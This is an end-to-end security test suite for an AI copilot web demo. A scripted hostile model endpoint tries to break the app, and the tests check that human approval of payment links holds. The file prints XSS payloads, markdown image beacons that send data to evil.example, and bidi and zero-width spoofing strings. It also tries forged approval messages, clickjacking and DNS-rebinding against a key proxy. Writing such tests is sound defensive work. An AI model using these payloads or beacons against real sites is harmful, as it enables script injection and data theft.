/** The demo in a real browser, as built, under its own content security policy. */
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page, Request } from 'playwright-core';
import { afterAll, beforeAll, expect, onTestFinished } from 'vitest';
import { card, composer, rowsOf, say, useEndpoint } from '../apps/demo/e2e/copilot-page.ts';
import { serveEndpoint, type ScriptedEndpoint, type ScriptedReply } from '../apps/demo/e2e/scripted-endpoint.ts';
import { openPage, startDesk, type StartedDesk } from '../apps/demo/e2e/start-desk.ts';
import { serve } from '../scripts/serve.ts';
import type { Ledger } from './ledger.ts';
import { row } from './row.ts';

let desk: StartedDesk;

beforeAll(async () => {
  desk = await startDesk();
});
afterAll(() => desk?.close());

/** What an attacker answers instead of a model, for one row. */
async function hostileEndpoint(...replies: readonly ScriptedReply[]): Promise<ScriptedEndpoint> {
  const endpoint = await serveEndpoint();
  onTestFinished(() => endpoint.close());
  endpoint.reply(...replies);
  return endpoint;
}

const LINK = { tool: 'create_payment_link', input: { customerId: 5, amount: 750, memo: 'Sponsoring' } };
const WAITS = 'Create a payment link for $750.00 to Jeff Malone (Harbor Labs)';

/** Markup that runs a script wherever it is taken for markup. */
const PAYLOADS = [
  '<img src=x onerror="window.pwned=1">',
  '<script>window.pwned=1</script>',
  '<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">click</a>',
  '[click](javascript:window.pwned=1)',
  '[click](data:text/html,<script>opener.pwned=1</script>)',
  '![x](x"onerror="window.pwned=1)',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>',
  '</textarea></pre></title><img src=x onerror=window.pwned=1>',
];
const ALL = PAYLOADS.join('\n\n');

interface Visit {
  readonly page: Page;
  /** Counts what happened: new payment links, scripts that ran, requests to anywhere else. */
  readonly settle: () => Promise<void>;
}

/** A visitor whose model is in the hands of an attacker; a person only approves what `permitted` counts. */
async function visit(ledger: Ledger, ...replies: readonly ScriptedReply[]): Promise<Visit> {
  const endpoint = await hostileEndpoint(...replies);
  const { context, page } = await desk.visit({ viewport: { width: 1440, height: 900 } });
  onTestFinished(() => context.close());
  const threadId = desk.url;
  page.setDefaultTimeout(20_000);
  const known = [new URL(desk.url).host, new URL(endpoint.url).host];
  const happened = (tool: string, input: unknown): void => ledger.happened({ threadId, callId: '', tool, input });
  const goesElsewhere = (sent: Request): boolean => {
    const { host, protocol } = new URL(sent.url());
    return protocol !== 'data:' && protocol !== 'blob:' && !known.includes(host);
  };
  context.on('requestfinished', (sent) => goesElsewhere(sent) && happened('request', sent.url()));
  // What the policy stopped never left the page; whatever failed otherwise has tried to.
  context.on('requestfailed', (sent) => {
    if (goesElsewhere(sent) && !/csp/i.test(sent.failure()?.errorText ?? '')) happened('request', sent.url());
  });
  page.on('dialog', (dialog) => {
    happened('dialog', dialog.message());
    void dialog.dismiss();
  });
  await openPage(page, desk.url);
  const before = (await rowsOf(page, 'Payment links')).length;
  await useEndpoint(page, endpoint.url);
  return {
    page,
    settle: async () => {
      const links = (await rowsOf(page, 'Payment links')).length - before;
      for (let index = 0; index < links; index++) happened('create_payment_link', LINK.input);
      if (await page.evaluate(() => 'pwned' in window)) happened('script', page.url());
      const injected =
        'img, iframe, object, embed, script:not([src]), a[href^="javascript" i], a[href^="data:" i], [onerror], [onload]';
      expect(await page.locator(injected).count()).toBe(0);
    },
  };
}

/** The person's own yes, with the button. */
async function approve(ledger: Ledger, page: Page, name: string | RegExp = WAITS): Promise<void> {
  ledger.permit({ threadId: desk.url, callId: '', tool: 'create_payment_link', input: LINK.input });
  await card(page, name).getByRole('button', { name: 'Approve' }).click();
}

row('`<img onerror>`, `<script>`, SVG, frames and `javascript:` links in what the model writes', async (ledger) => {
  const { page, settle } = await visit(
    ledger,
    {
      text: ALL,
      calls: [
        { tool: ALL.slice(0, 60), input: { [PAYLOADS[0] ?? '']: ALL } },
        { tool: 'ask_human', input: { question: ALL, format: 'choice', options: PAYLOADS } },
        { tool: 'find_customer', input: { name: ALL } },
        LINK,
      ],
    },
    { text: ALL },
  );
  await say(page, ALL);
  await card(page, WAITS).getByRole('button', { name: 'Approve' }).waitFor();
  await page.locator('details').evaluateAll((all) => all.forEach((one) => one.setAttribute('open', '')));
  await page
    .getByRole('article')
    .getByRole('button', { name: PAYLOADS[0] ?? '' })
    .click();
  await card(page, WAITS).getByRole('button', { name: 'Deny' }).click();
  await page.getByLabel('Why not? The copilot reads it.').fill(ALL);
  await card(page, WAITS).getByRole('button', { name: 'Deny' }).click();
  await page.getByRole('log').getByText('</textarea>').last().waitFor();
  await settle();
});

row('The same payloads in an approved call, and then wherever the app shows what it made', async (ledger) => {
  const memo = PAYLOADS.slice(0, 2).join(' ');
  const { page, settle } = await visit(
    ledger,
    { calls: [{ ...LINK, input: { ...LINK.input, memo } }] },
    { text: 'Made.' },
  );
  await say(page, 'a link');
  await approve(ledger, page);
  await card(page, WAITS).getByText('Done').waitFor();
  expect((await rowsOf(page, 'Payment links')).join()).toContain(PAYLOADS[0]);
  await page.reload();
  await page.locator('main h1').filter({ hasNotText: 'Opening' }).waitFor();
  expect((await rowsOf(page, 'Payment links')).join()).toContain(PAYLOADS[0]);
  await settle();
});

row('Right-to-left overrides and letters that nobody sees in an approval card', async (ledger) => {
  const memo = 'Refund to \u202Eknab s\u2019yrollam\u202C jeff\u200B.example';
  const { page, settle } = await visit(
    ledger,
    {
      calls: [
        { ...LINK, input: { ...LINK.input, memo } },
        { tool: 'ask_human', input: { question: 'Pay \u202E001$?', format: 'yes_no' } },
      ],
    },
    { text: 'Fine.' },
  );
  await say(page, 'a link');
  const waiting = card(page, WAITS);
  await waiting.getByRole('button', { name: 'Approve' }).waitFor();
  await waiting.locator('summary').click();
  const texts = [await waiting.innerText(), await card(page, /^Pay/).innerText()];
  expect(texts[0]?.match(/⟨U\+202E⟩/g)).toHaveLength(2);
  expect(texts[0]?.match(/⟨U\+200B⟩/g)).toHaveLength(2);
  expect(texts[1]).toContain('Pay ⟨U+202E⟩001$?');
  expect(texts.join()).not.toMatch(/[\u202A-\u202E\u200B]/);
  await settle();
});

row('Markdown images, links, styles and prefetches as a beacon that carries data away', async (ledger) => {
  const beacon = 'https://evil.example/?q=INV-1042';
  const text = [
    `![x](${beacon})`,
    `![x](${beacon} "title")`,
    `[![x](${beacon})](${beacon})`,
    `<img src="${beacon}">`,
    `<link rel="prefetch" href="${beacon}"><link rel="dns-prefetch" href="//evil.example">`,
    `<style>body{background:url(${beacon})}</style>`,
    `[x]: ${beacon}\n![x][x]`,
    beacon,
  ].join('\n\n');
  const { page, settle } = await visit(
    ledger,
    { text, calls: [{ ...LINK, input: { ...LINK.input, memo: `![x](${beacon})` } }], pieceMs: 2 },
    { text },
  );
  await say(page, 'what is overdue?');
  await approve(ledger, page);
  await card(page, WAITS).getByText('Done').waitFor();
  await page.getByRole('log').getByText(beacon).filter({ visible: true }).last().hover();
  await page.waitForTimeout(300);
  expect(await page.getByRole('log').locator('a[href*="evil"]').count()).toBe(0);
  await settle();
});

row(
  'A script that got into the page after all, and writes markup, runs text, loads pictures, makes frames or sends forms',
  async (ledger) => {
    const { page, settle } = await visit(ledger);
    const blocked = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        violations.push(effectiveDirective),
      );
      const target = document.createElement('div');
      const tries: readonly (() => unknown)[] = [
        () => (target.innerHTML = '<img src=x onerror="window.pwned=1">'),
        () => document.write('<script>window.pwned=1</script>'),
        () => target.insertAdjacentHTML('beforeend', '<b>x</b>'),
        () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
        () => target.setAttribute('onclick', 'window.pwned=1'),
        () => Object.assign(document.createElement('script'), { text: 'window.pwned=1' }),
        () => Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }),
        () => Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.pwned=1</script>' }),
        () => new Worker('data:text/javascript,0'),
        () =>
          (
            window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
          ).trustedTypes.createPolicy('x', {}),
      ];
      const survived = tries.flatMap((attempt, index) => {
        try {
          attempt();
          return [index];
        } catch {
          return [];
        }
      });
      const image = new Image();
      const failed = new Promise((resolve) => (image.onerror = resolve));
      image.src = 'https://evil.example/?q=1';
      await failed;
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
      document.body.append(form);
      form.submit();
      location.href = 'javascript:window.pwned=1';
      await new Promise((resolve) => setTimeout(resolve, 300));
      frame.remove();
      form.remove();
      return { survived, violations: [...new Set(violations)], hasRun: 'pwned' in window };
    });
    expect(blocked.survived).toEqual([]);
    expect(blocked.hasRun).toBe(false);
    for (const directive of ['require-trusted-types-for', 'trusted-types', 'img-src', 'frame-src', 'form-action']) {
      expect(blocked.violations).toContain(directive);
    }
    await openPage(page, desk.url);
    await settle();
  },
);

row('Messages posted into the page: intents, events, and what an inspector would send', async (ledger) => {
  const { page, settle } = await visit(ledger, { calls: [LINK] }, { text: 'Done.' });
  await say(page, 'a link');
  await card(page, WAITS).getByRole('button', { name: 'Approve' }).waitFor();
  await page.evaluate(async () => {
    const approved = { type: 'call.approved', callId: '1.0', by: { kind: 'person', id: 'desk' }, inputHash: '' };
    const messages: readonly unknown[] = [
      { ...approved, type: 'call.approve', threadId: 'x' },
      { type: 'log.read', events: [approved] },
      { type: '@xstate.event', event: approved },
      { type: '@statelyai.connected' },
      JSON.stringify({ type: '@xstate.event', event: approved }),
    ];
    for (const message of messages) {
      window.postMessage(message, '*');
      window.dispatchEvent(new MessageEvent('message', { data: message, origin: location.origin }));
      document.dispatchEvent(new CustomEvent('message', { detail: message }));
      for (const name of ['twelvefold', 'threads', 'xstate']) new BroadcastChannel(name).postMessage(message);
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
  });
  expect(await card(page, WAITS).getAttribute('data-status')).toBe('gated');
  await settle();
});

row('A card that appears, and takes the focus, under the fingers of a person who is typing', async (ledger) => {
  const { page, settle } = await visit(ledger, { text: 'Press Enter to go on.', calls: [LINK] }, { text: 'Fine.' });
  await say(page, 'a link');
  await composer(page).focus();
  await card(page, WAITS).getByRole('button', { name: 'Approve' }).waitFor();
  // No key of theirs may land on a button that has just appeared.
  for (const key of ['y', 'Space', 'Enter', 'Space', 'Enter']) await page.keyboard.press(key);
  expect(await card(page, WAITS).getAttribute('data-status')).toBe('gated');
  await settle();
});

row('The page in a frame of another one, to be clicked on by mistake', async (ledger) => {
  const html = `<!doctype html><iframe src="${desk.url}" style="opacity:0.01;width:100%;height:100%"></iframe>`;
  await withServer(html, async (url) => {
    const { page, context } = await desk.visit();
    await page.goto(url);
    await page.waitForTimeout(1000);
    const framed = page.frames().find((frame) => frame !== page.mainFrame());
    expect(await framed?.locator('#root').count()).toBe(0);
    await context.close();
  });
  expect(ledger.effects()).toEqual([]);
});

row('A page elsewhere that gives its name the address of this machine, and asks the key proxy', async (ledger) => {
  const key = 'sk-canary-77ab0c91d2';
  const endpoint = await hostileEndpoint();
  Object.assign(process.env, { OPENAI_API_KEY: key, OPENAI_BASE_URL: endpoint.url });
  const before = endpoint.asked.length;
  const site = await serve('apps/demo');
  try {
    const { port } = new URL(site.url);
    for (const host of [`evil.example:${port}`, `127.0.0.1.evil.example:${port}`, 'evil.example']) {
      const headers = {
        host,
        origin: `http://${host}`,
        'sec-fetch-site': 'same-origin',
        'content-type': 'application/json',
      };
      for (const path of ['/api/openai', '/api/openai/chat/completions', '//api/openai', '/api/openai/']) {
        const { status, body } = await ask(Number(port), path, headers);
        expect(status, `${host}${path}`).toBe(403);
        expect(body).not.toContain(key);
      }
    }
  } finally {
    delete process.env['OPENAI_API_KEY'];
    delete process.env['OPENAI_BASE_URL'];
    await site.close();
  }
  expect(endpoint.asked).toHaveLength(before);
  expect(ledger.effects()).toEqual([]);
});

function ask(port: number, path: string, headers: Readonly<Record<string, string>>) {
  return new Promise<{ readonly status: number; readonly body: string }>((resolve, reject) => {
    const sent = request({ host: '127.0.0.1', port, path, method: 'POST', headers }, (response) => {
      let body = '';
      response.setEncoding('utf8').on('data', (chunk: string) => (body += chunk));
      response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
    });
    sent.on('error', reject).end('{"messages":[]}');
  });
}

async function withServer(html: string, use: (url: string) => Promise<void>): Promise<void> {
  const server: Server = createServer((_, response) => response.setHeader('content-type', 'text/html').end(html));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  try {
    await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
  } finally {
    server.closeAllConnections();
    server.close();
  }
}
